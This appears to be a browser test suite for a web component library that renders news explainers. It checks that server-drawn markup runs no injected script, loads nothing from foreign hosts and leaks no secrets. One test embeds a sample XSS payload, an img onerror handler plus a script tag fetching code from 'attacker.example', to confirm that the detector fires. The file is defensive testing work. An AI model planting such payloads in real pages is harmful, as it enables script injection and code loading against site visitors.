import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readDocument } from '../../dist/model/index.js';
import { renderExplainer } from '../../dist/ssr/index.js';
import { buildForPage, importBuilt } from '../helpers/import-built.mjs';
import { useSite } from '../pages/helpers.mjs';

const { COUNT, harmlessStory, storiesOf } = await importBuilt('test/attacks/story-maker.ts');
const { ATTACK_KINDS, attacksOf } = await importBuilt('test/attacks/strings/index.ts');
const { harmless, lostPlaces } = await importBuilt('test/attacks/tagged-attacks.ts');
const { TEXT_FIELDS, makeWholeDocument, reportedIn } = await importBuilt('test/attacks/whole-document.ts');
const { SECRET, secretStory } = await importBuilt('test/attacks/secret-story.ts');
const { elementsOf, namesOf, shownOf } = await importBuilt('test/attacks/trees.ts');
const { parseTree } = await importBuilt('test/attacks/parse5-tree.ts');
const inPage = [
  await buildForPage('test/attacks/canary.ts', 'canary'),
  await buildForPage('test/attacks/trees.ts', 'trees'),
  'Object.assign(globalThis, { readTree: trees.readTree, watched: canary.watch(window) })',
].join(';');

const picture = (_, response) => response.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg/>');
const site = useSite({ answers: { '/picture.svg': picture } });

/** What attacks would need is allowed; whatever asks another host for something, or turns a text into markup or style, is reported. */
const headers = {
  'content-security-policy':
    "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'; base-uri 'none'; form-action 'none'; " +
    "object-src 'none'; style-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html",
};

/** An explainer draws the others inside itself: where they stand alone, what is meant for parsers is enough. */
const FOR_PARSERS = ['mutations', 'breakouts'];
const KINDS = { 'news-explainer': ATTACK_KINDS, 'event-timeline': FOR_PARSERS, 'who-said-what': FOR_PARSERS };
const stylesheet = '/dist/cdn/said-and-done.css';

/** As a file holds it: halves of characters are none. */
const render = (story, element = 'news-explainer') =>
  renderExplainer(story, { as: 'html', element, stylesheet, jsonLd: true, deepLink: true }).toWellFormed();

/** True for what an element says of its data: an attack in quotation marks is a quotation without a source. */
const isOfData = (words) => /^<[a-z-]+> \/\S* /.test(words);

const MODULE = '/dist/cdn/said-and-done.js';
const pageOf = (markup) => `<!doctype html><html><head><meta charset="utf-8"><title>An article</title>
  <script type="module" src="${MODULE}"></script></head><body>${markup}<p id="below">What stands below.</p></body></html>`;

const addressFields = TEXT_FIELDS.filter(({ shape }) => shape.code === 'address-not-allowed').map(({ field }) => field);
const isAddress = (field) => addressFields.includes(field);
const isId = (field) => /^[a-z]+\/id$/i.test(field);

const PAGE = 'https://page.example/';
const ADDRESSES = /^(.*:)?(href|src|srcset|poster|action|formaction|data|cite|ping)$/;

/** Nothing that runs, addresses that lead to the web, and scripts that hold data alone, but for ours. */
function assertHarmless(tree) {
  for (const { name, attributes, children } of elementsOf(tree)) {
    for (const [attribute, value] of Object.entries(attributes)) {
      assert.doesNotMatch(attribute, /^on|^srcdoc$|^style$/);
      if (ADDRESSES.test(attribute) && URL.canParse(value, PAGE))
        assert.match(new URL(value, PAGE).protocol, /^(https?|mailto):$/, value);
    }
    if (name !== 'script' || attributes.src === MODULE) continue;
    assert.match(attributes.type, /^application\/(ld\+)?json$/);
    assert.doesNotMatch(children.join(''), /[<>&\u2028\u2029]/);
    JSON.parse(children.join(''));
  }
}

/** Two trees that are to be one. Long ones, so that what differs is named by where it begins. */
function assertSame(one, other, what) {
  const [a, b] = [JSON.stringify(one), JSON.stringify(other)];
  if (a === b) return;
  let at = 0;
  while (a[at] === b[at]) at += 1;
  const around = (text) => text.slice(Math.max(0, at - 200), at + 200);
  assert.fail(`${what} reads ${around(a)} and not ${around(b)}`);
}

/** The tree that the browser has read, and the HTML that it would write of it. */
async function readPage(page) {
  const { tree, html } = await page.evaluate(() => {
    const rootsIn = (parent) => {
      const roots = [...parent.querySelectorAll('*')].flatMap(({ shadowRoot }) => shadowRoot ?? []);
      return roots.flatMap((root) => [root, ...rootsIn(root)]);
    };
    const shadowRoots = rootsIn(document);
    // The tree as text: protocols take long over deep objects.
    return {
      tree: JSON.stringify(globalThis.readTree(document)),
      html: document.documentElement.getHTML({ shadowRoots }),
    };
  });
  return { tree: JSON.parse(tree), html: `<!doctype html><html>${html}</html>` };
}

/**
 * Opens a page with this markup. `drawn` is what the browser has read before the script takes it over, `happened` all that went on
 * until it has.
 */
async function open(markup) {
  let drawn;
  const { page, troubles } = await site.openMarkup(pageOf(markup), {
    headers,
    prepare: async (opened) => {
      await opened.addInitScript(inPage);
      await opened.route(`**${MODULE}`, async (route) => {
        await opened.waitForSelector('#below');
        drawn = await readPage(opened);
        await route.continue();
      });
    },
  });
  const happened = await page.evaluate(() => {
    const touch = (parent) => {
      for (const element of parent.querySelectorAll('*')) {
        element.dispatchEvent(new globalThis.PointerEvent('pointerover'));
        if (element.shadowRoot) touch(element.shadowRoot);
      }
    };
    touch(document);
    return globalThis.watched.happened();
  });
  await page.close();
  const told = troubles.console.filter((words) => !isOfData(words));
  return { drawn, happened: [...happened, ...told, ...troubles.foreign] };
}

describe('attacks: elements that a server has drawn', () => {
  it('would be noticed', async () => {
    const attack = '<img src="data:," onerror="pwn()"><script src="//attacker.example/x.js"></script>';
    const { drawn, happened } = await open(attack);
    assert.match(happened.join('\n'), /pwn\(\)/);
    assert.match(happened.join('\n'), /attacker\.example/);
    assert.throws(() => assertHarmless(drawn));
  });

  for (const [tag, kinds] of Object.entries(KINDS)) {
    const safe = parseTree(pageOf(render(harmlessStory, tag)));
    const own = namesOf(safe);

    for (const kind of kinds) {
      it(`run nothing, and are one tree for two parsers, with all texts and no tag of others: <${tag}>, ${kind}`, async () => {
        for (const { document, attackAt } of storiesOf(kind, 250)) {
          const markup = render(document, tag);
          const { drawn, happened } = await open(markup);
          assertSame(parseTree(pageOf(markup)), drawn.tree, 'parse5');
          if (FOR_PARSERS.includes(kind))
            assertSame(parseTree(drawn.html), drawn.tree, 'parse5, of what the browser writes');
          assertHarmless(drawn.tree);
          assert.deepEqual(
            [...namesOf(drawn.tree)].filter((name) => !own.has(name)),
            [],
          );
          const texts = { attacked: shownOf(drawn.tree), safe: shownOf(safe), count: COUNT };
          assert.deepEqual(lostPlaces(texts, attackAt, reportedIn(readDocument(document).problems)), []);
          assert.deepEqual(happened, []);
        }
      });
    }
  }

  for (const [what, isAttacked, kinds] of [
    ['addresses', isAddress, ['programs', 'disguises', 'links']],
    ['ids', isId, FOR_PARSERS],
  ])
    it(`are harmless where ${what} are attacks`, () => {
      /** A story in which these fields hold something. */
      const withIn = (attackAt) => {
        const other = ({ field, index }) => (isAttacked(field) ? attackAt(index) : undefined);
        return parseTree(render(makeWholeDocument({ count: COUNT, text: harmless, other })));
      };
      const own = namesOf([...withIn(() => undefined), ...withIn(() => 'ftp://example.org/')]);
      for (const attacks of kinds.map((kind) => attacksOf(kind, 400))) {
        for (let first = 0; first < attacks.length; first += COUNT) {
          const tree = withIn((index) => attacks[first + index]);
          assertHarmless(tree);
          const names = [...namesOf(tree)].filter((name) => !own.has(name));
          assert.deepEqual(names, []);
        }
      }
    });

  for (const tag of Object.keys(KINDS))
    it(`hold nothing that isn’t published: <${tag}>`, () => {
      const html = render(secretStory, tag);
      assert.match(html, /statements\/text 1/);
      assert.ok(!html.includes(SECRET));
    });
});
